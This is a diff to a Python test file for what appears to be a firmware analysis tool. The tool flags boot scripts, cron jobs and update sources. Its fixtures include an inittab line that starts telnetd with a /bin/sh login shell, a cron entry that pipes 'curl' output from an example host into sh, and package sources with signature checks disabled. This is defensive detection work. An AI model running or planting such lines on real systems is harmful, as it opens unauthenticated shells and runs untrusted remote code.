@@ -102,11 +102,13 @@ def test_units(tmp_path: Path) -> None:
 
 
 def test_inittab_and_scripts(tmp_path: Path) -> None:
-    found = read_bytes("boot_script", INITTAB, tmp_path, "etc/inittab").rows
-    assert [(s.name, s.command, s.starts) for s in found] == [
+    found = read_bytes("boot_script", INITTAB, tmp_path, "etc/inittab")
+    assert [(s.name, s.command, s.starts) for s in found.table("service")] == [
         ("rcS", "/etc/init.d/rcS", "boot"),
         ("telnetd", "/usr/sbin/telnetd -F -l /bin/sh", "boot"),
     ]
+    (entrance,) = found.table("hidden_access")
+    assert (entrance.kind, entrance.effect_shown) == ("debug entrance", None)
     local = b"#!/bin/sh\n# one\ntelnetd -p 99\nif [ -e /x ]; then\n  snmpd\nfi\nexit 0\nsshd\n"
     found = read_bytes("boot_script", local, tmp_path, "etc/rc.local").rows
     assert [(s.command, s.direct) for s in found] == [
@@ -125,7 +127,7 @@ def test_inittab_and_scripts(tmp_path: Path) -> None:
 
 def test_jobs(tmp_path: Path) -> None:
     found = read_bytes("cron_table", CRONTAB, tmp_path, "etc/crontab").rows
-    assert [(b.kind, b.target, b.because) for b in found] == [
+    assert [(b.kind, b.target, b.because) for b in found if b.strength is None] == [
         (
             "runs on schedule",
             "curl -s https://a.example/u | sh",
@@ -133,6 +135,7 @@ def test_jobs(tmp_path: Path) -> None:
         ),
         ("runs on schedule", "/usr/bin/x", "its table says: @reboot as nobody"),
     ]
+    assert [b.kind for b in found if b.strength is not None] == ["downloads and runs"]
     own = read_bytes(
         "cron_table", b"*/5 * * * * /bin/x y\n", tmp_path, "var/spool/cron/crontabs/root"
     )
@@ -158,7 +161,7 @@ def test_who_ssh_lets_in(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("name", "text", "target", "because"),
     [
-        ("etc/opkg.conf", "src/gz a http://a.example/p\n", "http://a.example/p", "not have opkg"),
+        ("etc/opkg.conf", "src/gz a http://a.example/p\n", "http://a.example/p", "does not name"),
         ("etc/opkg.conf", "src a http://a.example/p\noption check_signature\n", "http://a.example/p",
          "checks the signature"),
         ("etc/apt/sources.list", "deb [trusted=yes] http://a.example/d x y\n", "http://a.example/d",
@@ -168,7 +171,7 @@ def test_who_ssh_lets_in(tmp_path: Path) -> None:
         ("etc/apk/repositories", "https://a.example/main\n", "https://a.example/main", "checks"),
         ("etc/swupdate.cfg", 'globals: {\n  public-key-file = "/k";\n};\n', "the whole image",
          "names a key"),
-        ("etc/swupdate.cfg", "globals: {\n};\n", "the whole image", "names no key"),
+        ("etc/swupdate.cfg", "globals: {\n};\n", "the whole image", "does not name a key"),
         ("etc/apt/apt.conf.d/9", 'APT::Get::AllowUnauthenticated "true";\n',
          'APT::Get::AllowUnauthenticated "true', "not verified"),
     ],
@@ -176,6 +179,12 @@ def test_who_ssh_lets_in(tmp_path: Path) -> None:
 def test_where_updates_come_from(
     name: str, text: str, target: str, because: str, tmp_path: Path
 ) -> None:
-    (row,) = read_bytes("update_source", text.encode(), tmp_path, name).rows
+    found = read_bytes("update_source", text.encode(), tmp_path, name)
+    (row,), sources = found.table("behaviour"), found.table("update_source")
+    assert [s.target for s in sources] == [target]
+    not_checked = {r.strength for r in found.table("hidden_access")}
+    assert bool(not_checked) == (
+        "not verified: the" in row.because or "does not name" in row.because
+    )
     assert (row.kind, row.target) == ("updates itself", target)
     assert because in row.because
